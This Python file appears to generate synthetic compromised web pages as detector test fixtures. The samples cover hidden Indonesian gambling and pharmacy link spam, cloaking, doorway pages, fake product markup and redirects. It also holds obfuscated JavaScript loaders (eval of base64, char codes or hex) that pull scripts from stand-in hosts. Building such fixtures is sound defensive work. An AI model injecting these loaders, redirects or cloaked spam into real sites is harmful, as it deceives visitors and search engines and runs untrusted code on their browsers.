# ruff: noqa: E501  pages and scripts stand here as they come, unbroken
"""Infected pages: one indicator each in a realistic page, at the strength it usually has, in several guises; and combinations.

All hosts end in .example or .test, and all brands are made up from general words.
"""

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

NOUNS = ("slot", "togel", "judi", "casino", "poker")
SELL = (
    "slot gacor hari ini", "situs slot gacor", "link slot gacor maxwin", "slot deposit pulsa tanpa potongan", "togel online terpercaya",
    "rtp live slot", "agen slot terpercaya", "slot88 login", "daftar slot gacor", "slot gacor gampang menang", "bandar togel resmi terpercaya",
    "link alternatif slot", "bocoran rtp slot gacor", "slot server thailand", "toto slot 4d", "situs judi slot terpercaya", "slot bonus new member 100",
    "akun pro slot gacor", "slot dana gacor", "scatter slot maxwin",
)  # fmt: skip
SELLING_PROSE = (
    "<p>Selamat datang di {brand}, situs slot gacor maxwin terpercaya dengan RTP live tertinggi. Daftar sekarang, deposit pulsa tanpa potongan, "
    "bonus new member 100 dan link alternatif selalu aktif. Slot gacor gampang menang setiap malam.</p>"
)
DRUGS = (
    "buy cheap viagra online",
    "cialis without prescription",
    "generic levitra price",
    "online pharmacy tramadol",
    "kamagra overnight delivery",
)
KANA = (
    "【送料無料】ブランド バッグ 激安 通販", "人気 スニーカー 新品 正規品 セール", "楽天 最安値 腕時計 メンズ 中古", "カーテン 遮光 オーダー 販売 税込",
    "ゴルフクラブ セット レディース おすすめ", "コスメ ランキング ファンデーション",
)  # fmt: skip


@dataclass(frozen=True)
class Injected:
    """What an attacker added: to head, to the body before and behind its text, a new title, and what only a crawler gets."""

    head: str = ""
    body: str = ""
    foot: str = ""
    title: str = ""
    address: str = ""
    crawler_only: bool = False


def brand(chance: Random) -> str:
    return f"{chance.choice(('raja', 'mega', 'super', 'dewa', ''))}{chance.choice(('slot', 'togel', 'bet', 'poker'))}{chance.choice((77, 88, 99, 138, 303, 777))}"


def host(chance: Random) -> str:
    """A throw-away host: half of them say what they are."""
    name = (
        brand(chance)
        if chance.random() < 0.5
        else f"{chance.choice(('kebun', 'toko', 'sinar', 'jaya', 'go', 'lp'))}-{chance.getrandbits(20):x}"
    )
    return f"{name}.{chance.choice(('example', 'test'))}"


def disguised(chance: Random, text: str) -> str:
    """The same for a reader, in another guise for a machine."""
    way = chance.randint(0, 9)
    if way == 0:
        return text.translate(str.maketrans("oai", "041"))
    if way == 1:
        return text.translate(str.maketrans("aeo", "аео"))  # Cyrillic letters
    if way == 2:
        return "\u200b".join(text)
    if way == 3:
        return text.upper()
    if way == 4:
        return "".join(f"&#{ord(letter)};" for letter in text)
    if way == 5:
        return "".join(chr(0x1D5D4 + ord(letter) - 97) if "a" <= letter <= "z" else letter for letter in text)
    return text


def anchors(chance: Random, count: int, *, same_host: bool = False) -> str:
    only = host(chance)
    return chance.choice((" ", ", ", " | ", "<br>")).join(
        f'<a href="https://{only if same_host else host(chance)}/{chance.choice(("", "daftar", "?ref=1"))}">{disguised(chance, chance.choice(SELL))}</a>'
        for _n in range(count)
    )


def neutral_anchors(chance: Random, count: int) -> str:
    """Links to strangers whose texts say nothing of gambling."""
    return " ".join(
        f'<a href="https://{chance.choice(("kebun", "toko", "sinar"))}-{chance.getrandbits(24):x}.example/">{chance.choice(("klik", "info", "harga", "resep"))}</a>'
        for _n in range(count)
    )


HIDING = (
    '<div style="position:absolute;left:-9999px;top:-9999px">{}</div>', "<div style='position: ABSOLUTE; LEFT:-7777px'>{}</div>",
    '<p style="font-size:0px;line-height:0">{}</p>', '<div style="display:none">{}</div>', '<div style="visibility:hidden;height:0">{}</div>',
    '<div style="overflow:hidden;height:1px;width:1px">{}</div>', '<div style="opacity:0">{}</div>', '<div style="text-indent:-99999px">{}</div>',
    '<div style="color:#fff;background:#ffffff">{}</div>', '<div style="background-color:#000"><span style="color:black">{}</span></div>',
    '<div style="clip:rect(0,0,0,0);position:absolute">{}</div>', '<marquee width="1" height="1" scrollamount="99999">{}</marquee>',
    "<style>.q7x{{position:absolute;left:-5000px}}</style><div class='q7x'>{}</div>",
    '<style>#zz1 a{{font-size:0 !important}}</style><div id="zz1">{}</div>', '<ul style="margin-left:-9000px">{}</ul>',
    '<div id="hf3">{}</div><script>document.getElementById("hf3").style.display="none"</script>',
    '<div style="dis\\70lay:none">{}</div>', '<div style="left:-9999px;/* x */position:absolute">{}</div>',
    '<font style="color:transparent">{}</font>', '<div style="clip-path:inset(100%)">{}</div>', '<div style="transform:translateX(-9999px)">{}</div>',
)  # fmt: skip


def hidden_links(chance: Random) -> Injected:
    return Injected(foot=chance.choice(HIDING).format(anchors(chance, chance.randint(1, 20), same_host=chance.random() < 0.3)))


def hidden_strangers(chance: Random) -> Injected:
    return Injected(foot=chance.choice(HIDING[:1] + HIDING[2:3] + HIDING[5:6]).format(neutral_anchors(chance, chance.randint(3, 12))))


def hidden_words(chance: Random) -> Injected:
    text = SELLING_PROSE.format(brand=brand(chance)) * chance.randint(1, 3)
    return Injected(
        body=chance.choice((HIDING[0], HIDING[2].replace("p", "div", 1).replace("/p>", "/div>"), HIDING[5], HIDING[7], HIDING[10])).format(
            text
        )
    )


def shown_links(chance: Random) -> Injected:
    return Injected(body=f"<p>{anchors(chance, chance.choice((1, 1, 2, 3, 6, 12)))}</p>")


def link_in_sentence(chance: Random) -> Injected:
    link = f'<a href="https://{host(chance)}/">{chance.choice(SELL)}</a>'
    return Injected(body=f"<p>Selain itu, masyarakat juga dapat mengunjungi {link} untuk informasi lain yang bermanfaat.</p>")


def links_to_hacked_offices(chance: Random) -> Injected:
    links = " ".join(
        f'<a href="https://dinas{n}.wanasari.go.id/wp-content/">{chance.choice(SELL)}</a>' for n in range(chance.randint(2, 8))
    )
    return Injected(foot=f"<div>{links}</div>")


def drug_links(chance: Random) -> Injected:
    return Injected(foot=" ".join(f'<a href="https://{host(chance)}/rx">{chance.choice(DRUGS)}</a>' for _n in range(chance.randint(2, 6))))


def verification(chance: Random) -> Injected:
    marks = "".join(f'<meta name="google-site-verification" content="{chance.getrandbits(100):x}"/>' for _n in range(chance.randint(2, 5)))
    return Injected(head=marks)


def priced_product(chance: Random) -> Injected:
    data = {
        "@context": "https://schema.org", "@type": chance.choice(("Product", ["Product"], "Game", "VideoGame")), "name": chance.choice((brand(chance).upper(), chance.choice(SELL).title())),
        "offers": {"@type": "AggregateOffer", "lowPrice": "10000", "price": chance.choice(("10000", 25000)), "priceCurrency": "IDR"},
        "aggregateRating": {"@type": "AggregateRating", "ratingValue": "4.9", "reviewCount": chance.choice(("98.765", 120345, "8,912,331"))},
    }  # fmt: skip
    text = json.dumps({"@graph": [data]} if chance.random() < 0.3 else data)
    return Injected(head=f'<script type="application/ld+json">{text[:-2] if chance.random() < 0.2 else text}</script>')


def priced_microdata(chance: Random) -> Injected:
    return Injected(
        body=f'<div itemscope itemtype="https://schema.org/Product"><span itemprop="name">{brand(chance)}</span><meta itemprop="price" content="9000"></div>'
    )


def amphtml(chance: Random) -> Injected:
    return Injected(head=f'<link rel="amphtml" href="https://{host(chance)}/{chance.choice(("", "?daftar=" + brand(chance)))}">')


def canonical(chance: Random) -> Injected:
    return Injected(head=f"<link href='https://{host(chance)}/' rel='canonical' />")


def doorway_address(chance: Random) -> Injected:
    key, value = chance.choice(
        (("daftar", brand(chance)), ("slot", "gacor-maxwin"), ("togel", "hongkong"), ("link", "slot-gacor"), ("rtp", brand(chance)))
    )
    return Injected(address=f"/{chance.choice(('', 'index.php', 'berita/'))}?{key}={value}", body=SELLING_PROSE.format(brand=brand(chance)))


def doorway_links(chance: Random) -> Injected:
    return Injected(
        foot=" ".join(
            f'<a href="/{chance.choice(("", "ppid/"))}?{chance.choice(("slot", "daftar", "gacor"))}={brand(chance)}">{brand(chance)}</a>'
            for _n in range(4)
        )
    )


def brand_list(chance: Random) -> Injected:
    names = [f"{brand(chance)} {chance.choice(('slot', 'login', 'gacor', 'maxwin'))}" for _n in range(16)]
    items = "".join('<li><a href="/{}/">{}</a></li>'.format(name.replace(" ", "-"), name) for name in names)
    return Injected(body=f"<ul>{items}</ul>")


def keyword_metas(chance: Random) -> Injected:
    words = chance.sample(SELL, chance.randint(5, 12))
    description = (
        f"{brand(chance).upper()} adalah situs slot gacor maxwin terpercaya, RTP live, deposit pulsa tanpa potongan, link alternatif."
    )
    return Injected(head=f'<meta name="keywords" content="{", ".join(words)}"><meta name="description" content="{description}">')


def doorway_head(chance: Random) -> Injected:
    """Title, description and text exchanged, as a plugin of attackers does; no link at all."""
    title = f"{brand(chance).upper()}: {chance.choice(SELL).title()} Maxwin Terpercaya"
    description = f"{title} dengan bonus new member, deposit pulsa dan RTP live slot gacor."
    return Injected(
        title=title,
        head=f'<meta property="og:title" content="{title}"><meta name="description" content="{description}">',
        body=SELLING_PROSE.format(brand=brand(chance)) * 2,
    )


def kana_title(chance: Random) -> Injected:
    title = chance.choice(KANA)
    return Injected(title=title, body=f"<p>{' '.join(chance.sample(KANA, 3))} 価格 {chance.randint(1000, 90000)} 円（税込）</p>")


def drug_title(chance: Random) -> Injected:
    return Injected(title=chance.choice(DRUGS).title(), body="<p>Buy cheap pills online, no prescription needed, overnight delivery.</p>")


def pictures(chance: Random) -> Injected:
    return Injected(
        body="".join(f'<img src="https://{host(chance)}/{n}.webp" alt="{chance.choice(SELL)}">' for n in range(chance.randint(1, 5)))
    )


def shop_template(chance: Random) -> Injected:
    return Injected(
        head=f'<link rel="stylesheet" href="https://cdn-{host(chance)}/pdp.css"><script src="https://cdn-{host(chance)}/app.js"></script>',
        body='<div class="pdp-mod-product product-gallery"><span class="product-price">Rp 10.000</span><button class="add-to-cart">Beli Sekarang</button></div>',
    )


def refresh(chance: Random) -> Injected:
    name, wait = chance.choice(("refresh", "REFRESH", "Refresh")), chance.choice(("0;url=", "1; URL=", "0; url='"))
    return Injected(head=f'<meta http-equiv="{name}" content="{wait}https://{host(chance)}/">')


def script_redirect(chance: Random) -> Injected:
    target = f"https://{host(chance)}/"
    return Injected(
        head="<script>"
        + chance.choice(
            (
                f'window.location.href="{target}";',
                f"location.replace('{target}')",
                f'var u="{target}";setTimeout(function(){{window.location=u}},500);',
                f'top.location="{target}"',
            )
        )
        + "</script>"
    )


def choosy_redirect(chance: Random) -> Injected:
    target = f"https://{host(chance)}/"
    return Injected(foot="<script>" + chance.choice((
        f"if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){{window.location.href='{target}'}}",
        f"if(document.referrer.indexOf('google')!=-1){{location.replace(\"{target}\")}}",
        f"var t='{target}';if(screen.width<768){{document.location=t}}",
        f"var r=document.referrer;if(r.match(/google|bing|yahoo/)){{window['location']['href']='{target}';location.assign('{target}')}}",
    )) + "</script>")  # fmt: skip


def payload(chance: Random) -> str:
    target = f"https://{host(chance)}/j.js"
    return chance.choice(
        (
            f"document.write('<script src=\"{target}\"><\\/script>')",
            f"window.location.href='{target}'",
            f"var s=document.createElement('script');s.src='{target}';document.head.appendChild(s)",
        )
    )


def coded_script(chance: Random) -> Injected:
    source = payload(chance)
    numbers = ",".join(str(ord(letter)) for letter in source)
    hexed = "".join(f"\\x{ord(letter):02x}" for letter in source)
    percent = "".join(f"%{ord(letter):02X}" for letter in source)
    coded = base64.b64encode(source.encode()).decode()
    script = chance.choice((
        f"eval(String.fromCharCode({numbers}))", f"eval(atob('{coded}'))", f'eval("{hexed}")', f"eval(unescape('{percent}'))",
        f"document.write(unescape('{percent}'))", f"var _=[{numbers}],s='';for(var i=0;i<_.length;i++)s+=String.fromCharCode(_[i]);eval(s)",
        f"new Function(atob('{coded}'))()", f"setTimeout(atob('{coded}'),10)", f"var a='{coded}';var b=atob('{coded}');eval(b)",
    ))  # fmt: skip
    return (
        Injected(head=f"<script>{script}</script>")
        if chance.random() < 0.5
        else Injected(foot=f"<script type='text/javascript'>{script}</script>")
    )


def packed_script(chance: Random) -> Injected:
    words = f"document|location|href|http|{brand(chance)}|example|referrer|if|google|window"
    script = (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}"
        f"('7(0.6.8(\"8\")){{9.1.2=\"3://4.5/\"}}',10,10,'{words}'.split('|'),0,{{}}))"
    )
    return Injected(head=f"<script>{script}</script>")


def renamed_script(chance: Random) -> Injected:
    names = [f"_0x{chance.getrandbits(20):05x}" for _n in range(8)]
    lines = ";".join(f"var {chance.choice(names)}={chance.choice(names)}[{chance.choice(names)}(0x{n:x})]" for n in range(25))
    return Injected(foot=f"<script>(function({names[0]},{names[1]}){{{lines}}})({names[2]},0x1f4);</script>")


def written_script(chance: Random) -> Injected:
    return Injected(
        foot=f"<script>document.write('<scr'+'ipt src=\"//{host(chance)}/x.js\"></scr'+'ipt>');document.write(\"<script src='https://{host(chance)}/t.js'><\\/script>\");</script>"
    )


def frame(chance: Random) -> Injected:
    target = f"https://{host(chance)}/"
    return Injected(
        foot=chance.choice(
            (
                f'<iframe src="{target}" width="0" height="0" frameborder="0"></iframe>',
                f'<iframe src="{target}" style="display:none"></iframe>',
                f'<iframe src="https://{brand(chance)}.example/" width="100%" height="2000"></iframe>',
            )
        )
    )


def cloaked_links(chance: Random) -> Injected:
    return Injected(foot=f"<div>{anchors(chance, chance.randint(1, 30))}</div>", crawler_only=True)


def cloaked_text(chance: Random) -> Injected:
    return Injected(body=SELLING_PROSE.format(brand=brand(chance)) * chance.randint(1, 4), crawler_only=True)


def cloaked_page(chance: Random) -> Injected:
    return Injected(title=chance.choice(KANA), body=f"<p>{' '.join(chance.sample(KANA, 4))}</p>", crawler_only=True)


def cloaked_strangers(chance: Random) -> Injected:
    return Injected(foot=neutral_anchors(chance, chance.randint(4, 15)), crawler_only=True)


KINDS: tuple[Callable[[Random], Injected], ...] = (
    hidden_links, hidden_strangers, hidden_words, shown_links, link_in_sentence, links_to_hacked_offices, drug_links, verification, priced_product,
    priced_microdata, amphtml, canonical, doorway_address, doorway_links, brand_list, keyword_metas, doorway_head, kana_title, drug_title, pictures,
    shop_template, refresh, script_redirect, choosy_redirect, coded_script, packed_script, renamed_script, written_script, frame, cloaked_links,
    cloaked_text, cloaked_page, cloaked_strangers,
)  # fmt: skip
# How they come together on real sites.
USUAL: tuple[tuple[Callable[[Random], Injected], ...], ...] = (
    (hidden_links, verification), (doorway_head, priced_product, amphtml, pictures), (kana_title, priced_product, cloaked_strangers),
    (keyword_metas, brand_list, shop_template), (coded_script, choosy_redirect), (doorway_address, canonical, frame),
    (shown_links, hidden_words), (doorway_links, drug_links, written_script),
)  # fmt: skip
